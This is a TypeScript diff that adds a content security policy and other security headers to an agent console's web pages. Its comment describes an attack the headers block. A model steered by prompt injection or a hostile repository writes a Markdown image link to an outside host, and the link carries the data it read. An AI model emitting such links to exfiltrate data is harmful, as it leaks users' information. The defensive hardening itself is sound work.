@@ -16,6 +16,31 @@ export const consoleDir = path.resolve(import.meta.dirname, '../../dist/web')
 /** The console's files are open without a token: they hold no data (see auth.ts). */
 const page = { schema: { hide: true }, config: { public: true } }
 
+/**
+ * What the console's pages may load and who may frame them. The console shows agent text as Markdown (sanitized,
+ * markdown.tsx), and DOMPurify keeps `<img src>` and `style` of any URL: without a policy, a model (prompt
+ * injection, a hostile repository) that wrote `![](https://elsewhere/?d=<what it read>)` had the browser send it
+ * there as soon as the answer showed, from a read-only run whose commands have no network. So everything loads
+ * from the gateway itself (images also as data: and blob: URLs), the console's calls go to it only, and no other
+ * page may frame it (a frame of another origin could lead the user's clicks to Accept or Cancel).
+ */
+export const consoleSecurityHeaders: Readonly<Record<string, string>> = {
+  'content-security-policy': [
+    "default-src 'self'",
+    "script-src 'self'",
+    "style-src 'self' 'unsafe-inline'",
+    "img-src 'self' data: blob:",
+    "connect-src 'self'",
+    "object-src 'none'",
+    "base-uri 'none'",
+    "form-action 'none'",
+    "frame-ancestors 'none'",
+  ].join('; '),
+  'x-frame-options': 'DENY',
+  'x-content-type-options': 'nosniff',
+  'referrer-policy': 'no-referrer',
+}
+
 export async function registerConsole(app: FastifyInstance, dir = consoleDir): Promise<void> {
   if (!existsSync(path.join(dir, 'index.html'))) {
     app.get('/', page, async (_request, reply) =>
@@ -38,6 +63,7 @@ export async function registerConsole(app: FastifyInstance, dir = consoleDir): P
       index: ['index.html'],
       cacheControl: false,
       setHeaders(reply, filePath) {
+        for (const [name, value] of Object.entries(consoleSecurityHeaders)) reply.header(name, value)
         reply.header(
           'cache-control',
           filePath.includes(`${path.sep}assets${path.sep}`)
